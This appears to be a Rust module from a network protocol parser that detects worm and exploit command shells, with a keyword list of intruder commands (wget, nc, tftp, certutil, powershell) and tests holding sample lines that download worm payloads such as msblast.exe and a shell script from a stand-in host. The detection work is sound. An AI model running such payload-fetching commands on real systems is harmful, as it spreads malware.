//! A command shell on a connection, as worms and exploits open one: each line that is typed, each line that comes back.
//!
//! | message | verb | object | more |
//! |---|---|---|---|
//! | command | first word as sent | rest of the line as sent | |
//! | reply | | line | Windows' first one is a hello, its text the software |

use serde::{Deserialize, Serialize};

use crate::lines::{Lines, bare, end_of_line, is_text, word};
use crate::message::{Kind, Match, Message, Parser, Side};

/// Where worms have put it: Blaster's and Sasser's.
pub const PORTS: &[u16] = &[4444, 9996, 1957, 8594];

/// First words of lines that intruders type, in lower case. None begins a line of another protocol.
const WORDS: [&[u8]; 53] = [
    b"attrib", b"bash", b"bitsadmin", b"busybox", b"cat", b"cd", b"certutil", b"chmod", b"cmd", b"cmd.exe", b"copy", b"cp",
    b"cscript", b"curl", b"del", b"dir", b"echo", b"export", b"fetch", b"ftp", b"ftp.exe", b"ftpget", b"history", b"id",
    b"ifconfig", b"ipconfig", b"kill", b"killall", b"ls", b"lynx", b"mkdir", b"mv", b"nc", b"net", b"net.exe", b"netsh",
    b"netstat", b"nohup", b"perl", b"powershell", b"ps", b"python", b"rm", b"rundll32", b"sh", b"start", b"tftp", b"tftp.exe",
    b"touch", b"uname", b"unset", b"wget", b"whoami",
];

/// Where programs lie that are called by their path.
const PLACES: [&[u8]; 6] = [b"/bin/", b"/usr/", b"/tmp/", b"/var/", b"/dev/", b">/"];

/// A client types a line whose first word is a program.
pub fn client(bytes: &[u8]) -> Match {
    let bytes = bytes.trim_ascii_start();
    let end = end_of_line(bytes);
    let line = bare(&bytes[..end.unwrap_or(bytes.len())]);
    if line.is_empty() || !is_text(line) {
        return Match::No;
    }
    let delimiter = line.iter().position(|b| b" \t;&|<".contains(b));
    let first = &line[..delimiter.unwrap_or(line.len())];
    let whole = delimiter.is_some() || end.is_some();
    let listed = WORDS.iter().any(|w| match whole {
        true => w.eq_ignore_ascii_case(first),
        false => w.len() >= first.len() && w[..first.len()].eq_ignore_ascii_case(first),
    });
    let placed = PLACES.iter().fold(Match::No, |m, place| m.or(Match::prefix(line, place)));
    match (listed, placed) {
        (true, _) | (_, Match::Yes) if end.is_some() => Match::Yes,
        (false, Match::No) => Match::No,
        _ if end.is_some() => Match::No,
        _ => Match::Maybe,
    }
}

/// A server begins with Windows' banner or with a prompt.
pub fn server(bytes: &[u8]) -> Match {
    let bytes = bytes.trim_ascii_start();
    const BEGINNINGS: [&[u8]; 6] = [
        b"Microsoft Windows",
        b"Microsoft(R) Windows",
        b"bash: no job control",
        b"sh: no job control",
        b"sh: can't access tty",
        b"BusyBox v",
    ];
    let begins = BEGINNINGS.iter().fold(Match::No, |m, p| m.or(Match::prefix(bytes, p)));
    let line = bytes.split(|b| *b == b'\n').next().unwrap_or_default();
    let prompt = match line {
        [drive, b':', b'\\', rest @ ..] if drive.is_ascii_alphabetic() && is_text(rest) => match rest.contains(&b'>') {
            true => Match::Yes,
            false if line.len() < bytes.len() => Match::No,
            false => Match::Maybe,
        },
        [drive, b':'] | [drive] if drive.is_ascii_alphabetic() && line.len() == bytes.len() => Match::Maybe,
        // `sh-2.05b# `
        [b's', b'h', b'-', digit, ..] if digit.is_ascii_digit() => Match::Yes,
        b"s" | b"sh" | b"sh-" | b"$" | b"#" | b"$ " | b"# " | b"/ # " => Match::Maybe,
        _ => Match::No,
    };
    begins.or(prompt)
}

/// A connection.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Shell {
    lines: Lines,
    greeted: bool,
}

impl Parser for Shell {
    fn read(&mut self, side: Side, input: &[u8], out: &mut Vec<Message>) -> usize {
        let mut at = 0;
        while let Some(line) = self.lines.next(side, input, &mut at) {
            let message = match side {
                Side::Client => command(line.text),
                Side::Server => self.reply(line.text),
            };
            out.extend(message.map(|m| Message { cut: m.cut || line.cut, ..m }));
        }
        at
    }

    fn gap(&mut self, side: Side) {
        self.lines.gap(side);
    }

    fn end(&mut self, side: Side, rest: &[u8], out: &mut Vec<Message>) {
        out.extend(match side {
            Side::Client => command(bare(rest)),
            Side::Server => self.reply(bare(rest)),
        });
    }
}

impl Shell {
    fn reply(&mut self, line: &[u8]) -> Option<Message> {
        let greets = !std::mem::replace(&mut self.greeted, true) && line.starts_with(b"Microsoft");
        let mut message = Message::of(if greets { Kind::Hello } else { Kind::Reply });
        let text = (!line.trim_ascii().is_empty()).then(|| message.keep(line))?;
        *(if greets { &mut message.software } else { &mut message.object }) = Some(text);
        Some(message)
    }
}

/// What somebody types; `None` where it is nothing.
pub fn command(line: &[u8]) -> Option<Message> {
    let line = line.trim_ascii();
    let (verb, rest) = word(line);
    (!line.is_empty()).then(|| Message::request(verb, rest))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{by, talk};

    #[test]
    fn one_line_is_enough() {
        for line in [
            "start msblast.exe\n",
            "tftp -i 192.0.2.1 GET msblast.exe\n",
            "echo open 192.0.2.1 5554>>cmd.ftp\r\n",
            "cd /tmp; wget http://192.0.2.1/x.sh\n",
            "/bin/busybox MIRAI\r\n",
            "uname -a",
            "id;uname\n",
        ] {
            let messages = talk("shell", &[(Side::Client, line.as_bytes())]);
            let said = format!("{} {}", messages[0].1.verb.as_ref().unwrap(), messages[0].1.object.as_ref().unwrap());
            assert_eq!((messages.len(), said.trim()), (1, line.trim()));
        }
    }

    #[test]
    fn a_shell_of_windows() {
        let messages = talk(
            "shell",
            &[
                (
                    Side::Server,
                    b"Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\nC:\\WINNT\\system32>",
                ),
                (Side::Client, b"dir\r\n\r\n"),
                (Side::Server, b"dir\r\n"),
            ],
        );
        let said = by(Side::Server, &messages);
        assert_eq!(said[0].software.as_deref(), Some("Microsoft Windows 2000 [Version 5.00.2195]"));
        assert_eq!(said[2].object.as_deref(), Some("C:\\WINNT\\system32>dir"));
        assert_eq!(by(Side::Client, &messages).len(), 1);
    }

    #[test]
    fn others_are_no_shell() {
        for line in [&b"GET / HTTP/1.0\r\n"[..], b"USER bro\r\n", b"started\n", b"\x16\x03\x01\n", b"\r\n"] {
            assert_eq!(client(line), Match::No, "{line:?}");
        }
        assert_eq!([server(b"C:\\WINNT>"), server(b"C:\\WIN"), server(b"sh-2.05b# "), server(b"220 x")], [
            Match::Yes,
            Match::Maybe,
            Match::Yes,
            Match::No
        ]);
    }
}
